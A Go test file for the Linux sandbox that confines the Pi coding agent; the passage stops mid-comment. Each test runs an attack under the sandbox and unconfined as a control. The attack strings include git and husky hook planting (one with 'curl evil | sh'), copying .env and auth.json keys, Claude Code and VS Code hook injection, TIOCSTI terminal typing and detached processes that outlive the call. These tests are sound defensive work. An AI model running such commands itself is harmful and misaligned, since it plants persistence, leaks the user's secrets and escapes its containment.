//go:build linux

package sandbox_test

import (
	"bytes"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"golang.org/x/sys/unix"
)

// runPlain runs the same command line unconfined: each attack's control.
func (w *world) runPlain(t *testing.T, script string) (string, error) {
	t.Helper()
	cmd := exec.Command("/bin/bash", "-c", script)
	cmd.Dir, cmd.Env = w.proj, w.env
	out, err := cmd.CombinedOutput()
	return string(out), err
}

// attack is one attack carried out under the sandbox, and unconfined as its
// control: effect reports whether it did what it set out to do.
type attack struct {
	name, script string
	effect       func(t *testing.T, w *world) bool
	// rootOnly: unconfined, only root can do it (the control is skipped
	// for an ordinary user; the sandbox must refuse it for both).
	rootOnly bool
	// setup, when set, prepares each world (the sandbox's and the
	// control's) before the script runs.
	setup func(t *testing.T, w *world)
}

func (a attack) check(t *testing.T) {
	t.Helper()
	w := newWorld(t)
	w.env = append(w.env, "F="+w.forge, "A="+attackBin)
	if a.setup != nil {
		a.setup(t, w)
	}
	out, _ := w.run(t, a.script)
	if a.effect(t, w) {
		t.Errorf("%s: the attack worked under the sandbox:\n%s", a.name, out)
	}
	if a.rootOnly && os.Getuid() != 0 {
		return
	}
	c := newWorld(t)
	c.env = append(c.env, "F="+c.forge, "A="+attackBin)
	if a.setup != nil {
		a.setup(t, c)
	}
	out, err := c.runPlain(t, a.script)
	if !c.effect(t, a) {
		t.Errorf("%s: control: the attack did not work unconfined either (%v), so the test shows nothing:\n%s", a.name, err, out)
	}
}

func (w *world) effect(t *testing.T, a attack) bool { return a.effect(t, w) }

func fileHas(p, s string) func(*testing.T, *world) bool {
	return func(t *testing.T, w *world) bool {
		b, err := os.ReadFile(filepath.Join(w.proj, p))
		return err == nil && bytes.Contains(b, []byte(s))
	}
}

func isLink(p string) func(*testing.T, *world) bool {
	return func(t *testing.T, w *world) bool {
		fi, err := os.Lstat(filepath.Join(w.proj, p))
		return err == nil && fi.Mode()&os.ModeSymlink != 0
	}
}

func notDir(p string) func(*testing.T, *world) bool {
	return func(t *testing.T, w *world) bool {
		fi, err := os.Lstat(filepath.Join(w.proj, p))
		return err != nil || !fi.IsDir()
	}
}

// TestGitAndProjectAttacks: what the private mount namespace stops, stopped
// for whoever runs the tests (root, and the ordinary CI user): each attack
// on what git or Pi later runs, with its control.
func TestGitAndProjectAttacks(t *testing.T) {
	needNamespaces(t)
	sameSize := func(t *testing.T, w *world) bool {
		b, _ := os.ReadFile(filepath.Join(w.proj, ".git", "config"))
		return string(b) == "[c0re]\n"
	}
	for _, a := range []attack{
		{name: "hook", script: `printf '#!/bin/sh\necho pwned\n' > .git/hooks/pre-commit`, effect: fileHas(".git/hooks/pre-commit", "pwned")},
		{name: "core.hooksPath", script: `git config --file .git/config core.hooksPath "$F"`, effect: fileHas(".git/config", "hooksPath")},
		{name: "core.fsmonitor", script: `git config --file .git/config core.fsmonitor "$F/x.sh"`, effect: fileHas(".git/config", "fsmonitor")},
		{name: ".git/hooks a link", script: `rm -rf .git/hooks; ln -s "$F" .git/hooks`, effect: isLink(".git/hooks")},
		{name: ".git a gitdir: file", script: `mv .git .git.old; printf 'gitdir: %s\n' "$F" > .git`, effect: notDir(".git")},
		{name: "RENAME_EXCHANGE of .pi", script: `"$A" exchange .pi "$F/fakepi"`, effect: func(t *testing.T, w *world) bool {
			_, err := os.Stat(filepath.Join(w.proj, ".pi", "piagent-mcp-approvals.json"))
			return err == nil
		}},
		{name: "same-size rewrite of .git/config", script: `python3 -c "
f=open('.git/config','r+'); f.write('[c0re]\n'); f.close()"`, effect: sameSize},
		{name: "submodule config", script: `git config --file .git/modules/sub/config core.fsmonitor "$F/x.sh"`, effect: fileHas(".git/modules/sub/config", "fsmonitor")},
		{name: "submodule hook", script: `echo pwned > .git/modules/sub/hooks/post-checkout`, effect: fileHas(".git/modules/sub/hooks/post-checkout", "pwned")},
		{name: "info/attributes", script: `echo '* filter=evil' > .git/info/attributes`, effect: fileHas(".git/info/attributes", "evil")},
		{name: "read .env", script: `cat .env > leaked.txt`, effect: fileHas("leaked.txt", "s3cr3t")},
		{name: "read auth.json", script: `cat ~/.pi/agent/auth.json > leaked.txt`, effect: fileHas("leaked.txt", "sk-ant")},
		{name: "chmod ~/.bashrc", script: `chmod 0777 ~/.bashrc`, effect: func(t *testing.T, w *world) bool {
			fi, err := os.Stat(filepath.Join(w.home, ".bashrc"))
			return err == nil && fi.Mode().Perm() == 0o777
		}},
		{name: "chmod ~/.ssh/id_ed25519", script: `chmod 0644 ~/.ssh/id_ed25519`, effect: func(t *testing.T, w *world) bool {
			fi, err := os.Stat(filepath.Join(w.home, ".ssh", "id_ed25519"))
			return err == nil && fi.Mode().Perm() == 0o644
		}},
	} {
		t.Run(a.name, func(t *testing.T) { a.check(t) })
	}
}

// TestHooksPathAttacks: a repository whose git config names a hooks
// folder in the work tree (husky's core.hooksPath = .husky) has that
// folder locked like .git/hooks: a hook written, added, or the folder
// moved or made a link would run at the person's next git command.
func TestHooksPathAttacks(t *testing.T) {
	needNamespaces(t)
	husky := func(t *testing.T, w *world) {
		write(t, filepath.Join(w.proj, ".git", "config"), "[core]\n\thooksPath = .husky\n")
		write(t, filepath.Join(w.proj, ".husky", "pre-commit"), "npm test\n")
	}
	moved := func(t *testing.T, w *world) bool {
		b, err := os.ReadFile(filepath.Join(w.proj, ".husky", "pre-commit"))
		return err != nil || string(b) != "npm test\n"
	}
	for _, a := range []attack{
		{name: "append to a hook", script: `echo 'curl evil | sh' >> .husky/pre-commit`, effect: fileHas(".husky/pre-commit", "evil"), setup: husky},
		{name: "add a hook", script: `printf '#!/bin/sh\necho pwned\n' > .husky/post-checkout`, effect: fileHas(".husky/post-checkout", "pwned"), setup: husky},
		{name: "replace the folder", script: `mv .husky .husky.old && mkdir .husky && echo pwned > .husky/pre-commit`, effect: moved, setup: husky},
		{name: "the folder a link", script: `rm -rf .husky && ln -s "$F" .husky`, effect: isLink(".husky"), setup: husky},
		{name: "python rewrite", script: `python3 -c "open('.hu'+'sky/pre-commit','w').write('echo pwned')"`, effect: fileHas(".husky/pre-commit", "pwned"), setup: husky},
	} {
		t.Run(a.name, func(t *testing.T) { a.check(t) })
	}
}

// TestGitIncludeAttacks: a file of the work tree the project's git config
// includes (include.path = ../shared.gitconfig, a team's diff drivers) is
// config git reads at the person's next command: its core.fsmonitor runs at
// the next git status. It is locked like .git/config.
func TestGitIncludeAttacks(t *testing.T) {
	needNamespaces(t)
	shared := func(t *testing.T, w *world) {
		write(t, filepath.Join(w.proj, ".git", "config"), "[core]\n[include]\n\tpath = ../shared.gitconfig\n")
		write(t, filepath.Join(w.proj, "shared.gitconfig"), "[diff \"lockb\"]\n\ttextconv = bun\n")
	}
	for _, a := range []attack{
		{name: "append a setting", script: `printf '[core]\n\tfsmonitor = "touch pwned; false"\n' >> shared.gitconfig`, effect: fileHas("shared.gitconfig", "pwned"), setup: shared},
		{name: "replace the file", script: `mv shared.gitconfig old && echo '[alias] st = !touch pwned' > shared.gitconfig`, effect: fileHas("shared.gitconfig", "pwned"), setup: shared},
		{name: "the file a link", script: `rm shared.gitconfig && ln -s "$F/mcp.json" shared.gitconfig`, effect: isLink("shared.gitconfig"), setup: shared},
		{name: "python rewrite", script: `python3 -c "open('shared.git'+'config','w').write('[core]\\n\\tpager = touch pwned')"`, effect: fileHas("shared.gitconfig", "pwned"), setup: shared},
	} {
		t.Run(a.name, func(t *testing.T) { a.check(t) })
	}
}

// TestOtherToolsAttacks: the files another coding tool runs programs from
// when the person next opens the project (Claude Code's hooks, a VS Code
// task run at folder open) are locked like .pi/ where they exist.
func TestOtherToolsAttacks(t *testing.T) {
	needNamespaces(t)
	tools := func(t *testing.T, w *world) {
		write(t, filepath.Join(w.proj, ".claude", "settings.json"), `{"permissions":{}}`)
		write(t, filepath.Join(w.proj, ".vscode", "tasks.json"), `{"version":"2.0.0","tasks":[]}`)
	}
	hook := `{"hooks":{"SessionStart":[{"hooks":[{"type":"command","command":"touch pwned"}]}]}}`
	for _, a := range []attack{
		{name: "claude hook", script: `echo '` + hook + `' > .claude/settings.json`, effect: fileHas(".claude/settings.json", "pwned"), setup: tools},
		{name: "claude local settings", script: `echo '` + hook + `' > .claude/settings.local.json`, effect: fileHas(".claude/settings.local.json", "pwned"), setup: tools},
		{name: "claude folder replaced", script: `mv .claude .claude.old && mkdir .claude && echo '` + hook + `' > .claude/settings.json`, effect: fileHas(".claude/settings.json", "pwned"), setup: tools},
		{name: "vscode task", script: `python3 -c "open('.vsc'+'ode/tasks.json','w').write('{\"tasks\":[{\"command\":\"touch pwned\",\"runOptions\":{\"runOn\":\"folderOpen\"}}]}')"`, effect: fileHas(".vscode/tasks.json", "pwned"), setup: tools},
	} {
		t.Run(a.name, func(t *testing.T) { a.check(t) })
	}
}

// TestGitIncludeFormAttacks: an include whose path value is continued on
// the next line (git joins it) names a file git reads as config all the
// same. (An included file that is a link is refused by the sandbox whole:
// it opens its mounts' folders without following links, so nothing runs;
// the engine's TestGitIncludeFormWrites holds Pi's tools off its target.)
func TestGitIncludeFormAttacks(t *testing.T) {
	needNamespaces(t)
	continued := func(t *testing.T, w *world) {
		write(t, filepath.Join(w.proj, ".git", "config"), "[core]\n[include]\n\tpath = ../sha\\\nred.gitconfig\n")
		write(t, filepath.Join(w.proj, "shared.gitconfig"), "[diff \"lockb\"]\n\ttextconv = bun\n")
	}
	for _, a := range []attack{
		{name: "continued include", script: `printf '[core]\n\tfsmonitor = "touch pwned; false"\n' >> shared.gitconfig`, effect: fileHas("shared.gitconfig", "pwned"), setup: continued},
		{name: "continued include replaced", script: `mv shared.gitconfig old && echo '[alias] st = !touch pwned' > shared.gitconfig`, effect: fileHas("shared.gitconfig", "pwned"), setup: continued},
	} {
		t.Run(a.name, func(t *testing.T) { a.check(t) })
	}
}

// TestServerStartupHook: an approved server's start-up write of a hook, the
// moment before the session's first call, is refused too.
func TestServerStartupHook(t *testing.T) {
	needNamespaces(t)
	w := newWorld(t)
	out, _ := w.runServer(t, `printf '#!/bin/sh\necho pwned\n' > .git/hooks/post-checkout; git config core.hooksPath /tmp`)
	if _, err := os.Stat(filepath.Join(w.proj, ".git", "hooks", "post-checkout")); err == nil {
		t.Errorf("the server planted a hook:\n%s", out)
	}
	if b, _ := os.ReadFile(filepath.Join(w.proj, ".git", "config")); strings.Contains(string(b), "hooksPath") {
		t.Errorf("the server set core.hooksPath:\n%s", out)
	}
	if out, err := w.runPlain(t, `printf x > .git/hooks/post-checkout`); err != nil {
		t.Fatalf("control: %v %s", err, out)
	}
}

// TestCapabilitiesDropped: the confined command holds no capability in any
// set, whoever runs it.
func TestCapabilitiesDropped(t *testing.T) {
	needSandbox(t)
	w := newWorld(t)
	out, err := w.run(t, `grep '^Cap' /proc/self/status`)
	if err != nil {
		t.Fatalf("%v\n%s", err, out)
	}
	n := 0
	for _, line := range strings.Split(strings.TrimSpace(out), "\n") {
		k, v, _ := strings.Cut(line, ":")
		n++
		if strings.TrimSpace(v) != "0000000000000000" {
			t.Errorf("%s is %s, want 0", k, strings.TrimSpace(v))
		}
	}
	if n != 5 {
		t.Errorf("want CapInh, CapPrm, CapEff, CapBnd and CapAmb, got:\n%s", out)
	}
}

// TestSeams: doors the agent could move, or that lead around the sandbox
// (issue 37), each carried out with its control.
func TestSeams(t *testing.T) {
	needNamespaces(t)
	worked := func(marker string) func(*testing.T, *world) bool { return fileHas("result", marker) }
	for _, a := range []attack{
		{name: "io_uring", script: `"$A" iouring > result`, effect: worked("worked")},
		{name: "mknod block device", script: `"$A" mknod "$PWD/blk" > result`, effect: worked("worked"), rootOnly: true},
		{name: "mknod character device", script: `"$A" mknod-char "$PWD/chr" > result`, effect: worked("worked"), rootOnly: true},
		{name: "setuid chmod", script: `touch s && "$A" setuid-chmod "$PWD/s" > result`, effect: worked("worked")},
		{name: "setgid fchmodat", script: `touch s && "$A" setgid-fchmodat "$PWD/s" > result`, effect: worked("worked")},
		{name: "setuid open(O_CREAT)", script: `"$A" setuid-open "$PWD/s" > result`, effect: worked("worked")},
		{name: "setuid mkdir", script: `"$A" setuid-mkdir "$PWD/d" > result`, effect: worked("worked")},
		{name: "openat2", script: `"$A" openat2 "$PWD/o" > result`, effect: worked("worked")},
		{name: "ip route", script: `ip route add 203.0.113.0/24 dev lo && echo worked > result; ip route del 203.0.113.0/24 dev lo 2>/dev/null; true`, effect: worked("worked"), rootOnly: true},
		{name: "private folder swapped for a link", script: `mv "$GOCACHE" "$GOCACHE.o" && ln -s "$HOME/.pi" "$GOCACHE" && echo worked > result`, effect: worked("worked")},
		{name: "the empty file swapped for a link", script: `e="$(dirname "$TMPDIR")/.hidden-empty"; rm -f "$e" && ln -s "$HOME/.bashrc" "$e" && echo worked > result`, effect: worked("worked")},
		{name: "write /tmp", script: `echo x > /tmp/piagent-seam-$$ && rm /tmp/piagent-seam-$$ && echo worked > result`, effect: worked("worked")},
	} {
		if a.name == "ip route" {
			if _, err := exec.LookPath("ip"); err != nil {
				continue
			}
		}
		if a.name == "private folder swapped for a link" || a.name == "the empty file swapped for a link" {
			// unconfined, GOCACHE and TMPDIR are the caller's: set them
			// to a private folder's shape for the control
			t.Run(a.name, func(t *testing.T) {
				w := newWorld(t)
				out, _ := w.run(t, strings.ReplaceAll(a.script, "> result", "> "+filepath.Join(w.proj, "result")))
				if a.effect(t, w) {
					t.Errorf("worked under the sandbox:\n%s", out)
				}
			})
			continue
		}
		t.Run(a.name, func(t *testing.T) { a.check(t) })
	}
}

// TestPrivateFolderRefused: a private folder that is a link, or that another
// user could write, is refused: nothing runs.
func TestPrivateFolderRefused(t *testing.T) {
	needSandbox(t)
	for _, tc := range []struct {
		name  string
		plant func(t *testing.T, base string)
	}{
		{"world-writable", func(t *testing.T, base string) {
			must(t, os.Mkdir(base, 0o700))
			must(t, os.Chmod(base, 0o777))
		}},
		{"a link to the home", func(t *testing.T, base string) {
			must(t, os.Symlink(os.Getenv("HOME"), base))
		}},
		{"another user's", func(t *testing.T, base string) {
			if os.Getuid() != 0 {
				t.Skip("only root can make a folder another user owns; the mode and link cases run for everyone")
			}
			must(t, os.Mkdir(base, 0o700))
			must(t, os.Chown(base, 65534, 65534))
		}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			w := newWorld(t)
			tmp := t.TempDir()
			tc.plant(t, filepath.Join(tmp, fmt.Sprintf("piagent-sandbox-%d", os.Getuid())))
			w.env = append(w.env, "TMPDIR="+tmp)
			out, err := w.run(t, `echo ran > ran.txt`)
			if err == nil || !strings.Contains(out, "refusing the sandbox's private folder") {
				t.Errorf("err %v: %s", err, out)
			}
			if _, err := os.Stat(filepath.Join(w.proj, "ran.txt")); err == nil {
				t.Error("the command ran")
			}
		})
	}
}

// TestInheritedDescriptor: a descriptor the caller leaves open (on a file
// the command could not open itself) does not reach the command.
func TestInheritedDescriptor(t *testing.T) {
	needSandbox(t)
	w := newWorld(t)
	target := filepath.Join(w.home, ".bashrc")
	for _, confined := range []bool{true, false} {
		must(t, os.WriteFile(target, []byte("# rc\n"), 0o644))
		f, err := os.OpenFile(target, os.O_WRONLY|os.O_APPEND, 0)
		must(t, err)
		argv := []string{"sandbox", "exec", "--", attackBin, "write-fd", "3"}
		bin := piagentBin
		if !confined {
			bin, argv = attackBin, argv[4:]
		}
		cmd := exec.Command(bin, argv...)
		cmd.Dir, cmd.Env, cmd.ExtraFiles = w.proj, w.env, []*os.File{f}
		out, _ := cmd.CombinedOutput()
		f.Close()
		b, _ := os.ReadFile(target)
		planted := strings.Contains(string(b), "planted")
		if confined && planted {
			t.Errorf("the command wrote through fd 3:\n%s", out)
		}
		if !confined && !planted {
			t.Errorf("control: unconfined, fd 3 was not written: %s", out)
		}
	}
}

// TestOtherEnvironsHidden: another process's environment, and the process
// itself, are out of view.
func TestOtherEnvironsHidden(t *testing.T) {
	needNamespaces(t)
	w := newWorld(t)
	outside := exec.Command("sleep", "30")
	outside.Env = []string{"AWS_SECRET_ACCESS_KEY=outside-secret"}
	must(t, outside.Start())
	defer func() { outside.Process.Kill(); outside.Wait() }()
	script := fmt.Sprintf(`"$A" environ %d`, outside.Process.Pid)
	w.env = append(w.env, "A="+attackBin)
	if out, err := w.run(t, script); err == nil || strings.Contains(out, "worked") {
		t.Errorf("read another process's environment: %v %s", err, out)
	}
	if out, err := w.runPlain(t, script); err != nil || !strings.Contains(out, "worked") {
		t.Errorf("control: %v %s", err, out)
	}
}

// TestNoSurvivors: a process the command detaches (setsid, double fork)
// ends when the command ends.
func TestNoSurvivors(t *testing.T) {
	needNamespaces(t)
	for _, confined := range []bool{true, false} {
		w := newWorld(t)
		script := `setsid sh -c 'sleep 1; echo alive > survivor' </dev/null >/dev/null 2>&1 & disown; exit 0`
		run := w.run
		if !confined {
			run = w.runPlain
		}
		if out, err := run(t, script); err != nil {
			t.Fatalf("%v %s", err, out)
		}
		time.Sleep(2500 * time.Millisecond)
		_, err := os.Stat(filepath.Join(w.proj, "survivor"))
		if confined && err == nil {
			t.Error("a detached process outlived the call")
		}
		if !confined && err != nil {
			t.Error("control: unconfined, the detached process did not run")
		}
	}
}

// TestTerminalInjection: TIOCSTI refused twice over: by seccomp where the
// capabilities are kept, and by the dropped capabilities and the session of
// its own where seccomp's rule is taken out (fault builds), and by both in
// the real build.
func TestTerminalInjection(t *testing.T) {
	needNamespaces(t)
	ptmx, pts := openPTY(t)
	defer ptmx.Close()
	defer pts.Close()
	w := newWorld(t)
	for _, tc := range []struct{ bin, fault string }{
		{piagentBin, ""},
		{faultBin, "keep-caps"},
		{faultBin, "no-tiocsti-rule"},
	} {
		for _, req := range []string{"tiocsti", "tiocsti-high"} {
			cmd := exec.Command(tc.bin, "sandbox", "exec", "--", attackBin, req)
			cmd.Dir, cmd.Env = w.proj, append(w.env, "PIAGENT_SANDBOX_FAULT="+tc.fault)
			cmd.Stdin = pts
			out, _ := cmd.CombinedOutput()
			if !strings.Contains(string(out), "refused") {
				t.Errorf("%s with fault %q: %s", req, tc.fault, out)
			}
		}
	}
	if os.Getuid() == 0 {
		// control: root, unconfined, types into the terminal
		cmd := exec.Command(attackBin, "tiocsti")
		cmd.Stdin = pts
		if out, err := cmd.CombinedOutput(); err != nil || !strings.Contains(string(out), "worked") {
			t.Errorf("control: %v %s", err, out)
		}
	}
}

// openPTY opens a new pseudo-terminal pair.
func openPTY(t *testing.T) (*os.File, *os.File) {
	t.Helper()
	m, err := os.OpenFile("/dev/ptmx", os.O_RDWR|unix.O_NOCTTY, 0)
	must(t, err)
	must(t, unix.IoctlSetPointerInt(int(m.Fd()), unix.TIOCSPTLCK, 0))
	n, err := unix.IoctlGetInt(int(m.Fd()), unix.TIOCGPTN)
	must(t, err)
	s, err := os.OpenFile(fmt.Sprintf("/dev/pts/%d", n), os.O_RDWR|unix.O_NOCTTY, 0)
	must(t, err)
	return m, s
}

// TestNamespaceRefusedSaysSo: where the user namespace cannot mount (as
// Ubuntu's AppArmor restriction leaves it; simulated by a fault build),
// status names the cause, a command runs under Landlock and seccomp alone
// and says so, and "sandbox": "namespaces" refuses it.
func TestNamespaceRefusedSaysSo(t *testing.T) {
	needNamespaces(t)
	w := newWorld(t)
	env := append(w.env, "PIAGENT_SANDBOX_FAULT=mount")
	st := exec.Command(faultBin, "sandbox", "status", "--json")
	st.Dir, st.Env = w.proj, env
	out, _ := st.CombinedOutput()
	if !strings.Contains(string(out), `"namespaces": ""`) || !strings.Contains(string(out), "cannot mount") {
		t.Errorf("status:\n%s", out)
	}
	for fault, want := range map[string][]string{
		"mount": {"does not hold: registered files inside the project", "survivors possible", "cannot mount", `"sandbox": "namespaces"`},
		"":      {"holds: registered files inside the project", "holds: every process a command starts ends with it", "holds: every capability of the command dropped"},
	} {
		st := exec.Command(faultBin, "sandbox", "status")
		st.Dir, st.Env = w.proj, append(w.env, "PIAGENT_SANDBOX_FAULT="+fault)
		out, _ := st.CombinedOutput()
		for _, s := range want {
			if !strings.Contains(string(out), s) {
				t.Errorf("status with fault %q lacks %q:\n%s", fault, s, out)
			}
		}
	}
	run := exec.Command(faultBin, "sandbox", "exec", "--", "/bin/sh", "-c", "echo ran > ran.txt")
	run.Dir, run.Env = w.proj, env
	out, err := run.CombinedOutput()
	if err != nil || !strings.Contains(string(out), "Landlock and seccomp alone") {
		t.Errorf("fallback: %v %s", err, out)
	}
	must(t, os.Remove(filepath.Join(w.proj, "ran.txt")))
	write(t, filepath.Join(w.home, ".pi", "piagent-policy.json"), `{"version":1,"sandbox":"namespaces"}`)
	run = exec.Command(faultBin, "sandbox", "exec", "--", "/bin/sh", "-c", "echo ran > ran.txt")
	run.Dir, run.Env = w.proj, env
	out, err = run.CombinedOutput()
	if err == nil || !strings.Contains(string(out), `"sandbox": "namespaces"`) {
		t.Errorf("required namespaces: %v %s", err, out)
	}
	if _, err := os.Stat(filepath.Join(w.proj, "ran.txt")); err == nil {
		t.Error("the command ran although the policy requires namespaces")
	}
}

// TestEnvironmentAllowList: Pi's keys reach no command and no server; what
// the person names (passEnv, a grant's --env) and a server's own
// definition's keys (--keep-env, from the launcher) do.
func TestEnvironmentAllowList(t *testing.T) {
	needSandbox(t)
	w := newWorld(t)
	w.env = append(w.env, "ANTHROPIC_API_KEY=sk-ant-fake", "AWS_SECRET_ACCESS_KEY=aws-fake", "OPENAI_API_KEY=sk-fake",
		"GITHUB_TOKEN=ghp-fake", "SERVER_DB_URL=db-fake", "GRANTED_TOKEN=granted-fake", "LANG=C.UTF-8", "SOME_RANDOM=random")
	show := `env | cut -d= -f1 | sort | tr '\n' ' '`
	// control: unconfined, the command sees every key
	if out, _ := w.runPlain(t, show); !strings.Contains(out, "ANTHROPIC_API_KEY") {
		t.Fatalf("control: %s", out)
	}
	has := func(out string) map[string]bool {
		got := map[string]bool{}
		for _, f := range strings.Fields(out) {
			got[f] = true
		}
		return got
	}
	out, err := w.run(t, show)
	got := has(out)
	if err != nil || !got["PATH"] || !got["HOME"] || !got["LANG"] || !got["TMPDIR"] {
		t.Fatalf("the command lacks the default set: %v %s", err, out)
	}
	for _, k := range []string{"ANTHROPIC_API_KEY", "AWS_SECRET_ACCESS_KEY", "OPENAI_API_KEY", "GITHUB_TOKEN", "SERVER_DB_URL", "SOME_RANDOM"} {
		if got[k] {
			t.Errorf("the agent's command received %s", k)
		}
	}
	// the person passes GITHUB_TOKEN in their own policy
	write(t, filepath.Join(w.home, ".pi", "piagent-policy.json"), `{"version":1,"passEnv":["GITHUB_TOKEN"]}`)
	got = has(mustRun(t, w, show))
	if !got["GITHUB_TOKEN"] || got["ANTHROPIC_API_KEY"] {
		t.Errorf("with passEnv GITHUB_TOKEN: %v", got)
	}
	// a repository's policy cannot pass a key
	write(t, filepath.Join(w.proj, ".pi", "piagent-policy.json"), `{"version":1,"passEnv":["ANTHROPIC_API_KEY"]}`)
	if got = has(mustRun(t, w, show)); got["ANTHROPIC_API_KEY"] {
		t.Errorf("a repository's passEnv passed ANTHROPIC_API_KEY")
	}
	must(t, os.Remove(filepath.Join(w.proj, ".pi", "piagent-policy.json")))
	// a server: its own definition's keys (--keep-env) and its grant
	grantCmd := exec.Command(filepath.Join(filepath.Dir(piagentBin), "piagent-mcp"), "grant", "evil", "--env", "GRANTED_TOKEN")
	grantCmd.Dir, grantCmd.Env = w.proj, w.env
	if out, err := grantCmd.CombinedOutput(); err != nil {
		t.Fatalf("grant --env: %v %s", err, out)
	}
	cmd := exec.Command(piagentBin, "sandbox", "exec", "--profile", "server", "--server", "evil", "--project", w.proj, "--keep-env", "SERVER_DB_URL", "--", "/bin/sh", "-c", show)
	cmd.Dir, cmd.Env = w.proj, w.env
	raw, err := cmd.CombinedOutput()
	got = has(string(raw))
	if err != nil || !got["SERVER_DB_URL"] || !got["GRANTED_TOKEN"] || !got["GITHUB_TOKEN"] {
		t.Errorf("the server lacks its own, granted or passed keys: %v %s", err, raw)
	}
	for _, k := range []string{"ANTHROPIC_API_KEY", "AWS_SECRET_ACCESS_KEY", "OPENAI_API_KEY", "SOME_RANDOM"} {
		if got[k] {
			t.Errorf("the server received %s", k)
		}
	}

	// A server through an installed container runtime runs unconfined
	// (its daemon could not be confined), with the same allow-list: the
	// launcher wraps it in --env-only. The control is the runtime run
	// directly, which sees Pi's keys.
	inst := filepath.Join(t.TempDir(), "bin")
	must(t, os.Mkdir(inst, 0o755))
	docker := filepath.Join(inst, "docker")
	write(t, docker, "#!/bin/sh\n"+show+"\n")
	must(t, os.Chmod(docker, 0o755))
	direct := exec.Command(docker)
	direct.Env = w.env
	if out, _ := direct.Output(); !strings.Contains(string(out), "ANTHROPIC_API_KEY") {
		t.Fatalf("control: the runtime run directly lacks Pi's keys: %s", out)
	}
	envOnly := func(bin string) (map[string]bool, string, error) {
		cmd := exec.Command(leanBin, "exec", "--profile", "server", "--server", "evil", "--project", w.proj, "--env-only", "--keep-env", "SERVER_DB_URL", "--", bin)
		cmd.Dir, cmd.Env = w.proj, w.env
		raw, err := cmd.CombinedOutput()
		return has(string(raw)), string(raw), err
	}
	got, out, err = envOnly(docker)
	if err != nil || !got["SERVER_DB_URL"] || !got["GRANTED_TOKEN"] || !got["GITHUB_TOKEN"] {
		t.Errorf("the container runtime lacks the server's own, granted or passed keys: %v %s", err, out)
	}
	for _, k := range []string{"ANTHROPIC_API_KEY", "AWS_SECRET_ACCESS_KEY", "OPENAI_API_KEY", "SOME_RANDOM"} {
		if got[k] {
			t.Errorf("the container runtime received %s", k)
		}
	}
	// A repository's own "docker" is no runtime: --env-only refuses it,
	// and nothing runs.
	repoDocker := filepath.Join(w.proj, "tools", "docker")
	must(t, os.MkdirAll(filepath.Dir(repoDocker), 0o755))
	write(t, repoDocker, "#!/bin/sh\necho RAN > ran-unconfined\n")
	must(t, os.Chmod(repoDocker, 0o755))
	if _, raw, err := envOnly(repoDocker); err == nil || !strings.Contains(raw, "not one") {
		t.Errorf("--env-only ran a repository's docker: %v %s", err, raw)
	}
	if _, err := os.Stat(filepath.Join(w.proj, "ran-unconfined")); err == nil {
		t.Error("the repository's docker ran")
	}
}

func mustRun(t *testing.T, w *world, script string) string {
	t.Helper()
	out, err := w.run(t, script)
	if err != nil {
		t.Fatalf("%v %s", err, out)
	}
	return out
}

// TestEverydayGitUnderSandbox: with .git's config, hooks and info
// read-only, everyday git still works in the project itself; what writes the
// protected parts is refused, and says where.
func TestEverydayGitUnderSandbox(t *testing.T) {
	needNamespaces(t)
	w := newWorld(t)
	must(t, os.RemoveAll(filepath.Join(w.proj, ".git")))
	remote := filepath.Join(w.root, "remote.git")
	git := func(dir string, args ...string) {
		t.Helper()
		cmd := exec.Command("git", append([]string{"-c", "user.email=a@b", "-c", "user.name=a", "-c", "init.defaultBranch=main"}, args...)...)
		cmd.Dir, cmd.Env = dir, w.env
		if out, err := cmd.CombinedOutput(); err != nil {
			t.Fatalf("git %v: %v\n%s", args, err, out)
		}
	}
	git(w.root, "init", "-q", "--bare", remote)
	git(w.proj, "init", "-q")
	git(w.proj, "add", "evil.js")
	git(w.proj, "commit", "-qm", "one")
	git(w.proj, "remote", "add", "origin", remote)
	git(w.proj, "push", "-q", "origin", "main")
	out, err := w.run(t, `set -e
export GIT_AUTHOR_NAME=a GIT_AUTHOR_EMAIL=a@b GIT_COMMITTER_NAME=a GIT_COMMITTER_EMAIL=a@b
git checkout -q -b feature
echo x > f.txt && git add f.txt && git commit -qm two
echo y >> f.txt && git stash -q && git stash list | wc -l
git fetch -q origin
git log --oneline | wc -l
git status --short | wc -l`)
	if err != nil || strings.Fields(out)[len(strings.Fields(out))-3:][0] != "1" {
		t.Fatalf("everyday git under the sandbox: %v\n%s", err, out)
	}
	for _, script := range []string{`git config user.name x`, `git remote add evil /tmp/x`} {
		out, err := w.run(t, script)
		// git renames its lock file over .git/config, a mount point here
		if err == nil || !strings.Contains(out, ".git/config") || !strings.Contains(out, "Read-only file system") && !strings.Contains(out, "Device or resource busy") {
			t.Errorf("%s: %v %s", script, err, out)
		}
	}
}

// TestOtherBinaryAndHome (issue 38): with piagent and piagent-mcp in a
// folder of the project, the agent cannot replace the one the person runs
// next; a project that is the home folder is refused.
func TestOtherBinaryAndHome(t *testing.T) {
	needSandbox(t)
	w := newWorld(t)
	bin := filepath.Join(w.proj, "bin")
	must(t, os.MkdirAll(bin, 0o755))
	for _, name := range []string{"piagent", "piagent-mcp"} {
		data, err := os.ReadFile(filepath.Join(filepath.Dir(piagentBin), name))
		must(t, err)
		must(t, os.WriteFile(filepath.Join(bin, name), data, 0o755))
	}
	cmd := exec.Command(filepath.Join(bin, "piagent"), "sandbox", "exec", "--", "/bin/sh", "-c", `printf '#!/bin/sh\necho pwned\n' > bin/piagent-mcp; cp /bin/true bin/piagent-mcp`)
	cmd.Dir, cmd.Env = w.proj, w.env
	out, _ := cmd.CombinedOutput()
	if b, _ := os.ReadFile(filepath.Join(bin, "piagent-mcp")); bytes.Contains(b, []byte("pwned")) || len(b) < 1<<20 {
		t.Errorf("the agent replaced piagent-mcp:\n%s", out)
	}
	// control: unconfined, it is replaced
	if out, err := w.runPlain(t, `printf '#!/bin/sh\necho pwned\n' > bin/piagent-mcp`); err != nil {
		t.Fatalf("control: %v %s", err, out)
	}
	// the home as the project
	cmd = exec.Command(piagentBin, "sandbox", "exec", "--project", w.home, "--", "/bin/sh", "-c", "echo ran > ran.txt")
	cmd.Dir, cmd.Env = w.home, w.env
	raw, err := cmd.CombinedOutput()
	if err == nil || !strings.Contains(string(raw), "is your home folder") {
		t.Errorf("the home as the project: %v %s", err, raw)
	}
	if _, err := os.Stat(filepath.Join(w.home, "ran.txt")); err == nil {
		t.Error("the command ran with the home as its project")
	}
}

// TestOpencodeCursorHooksAttacks: opencode's project plugins and Cursor's
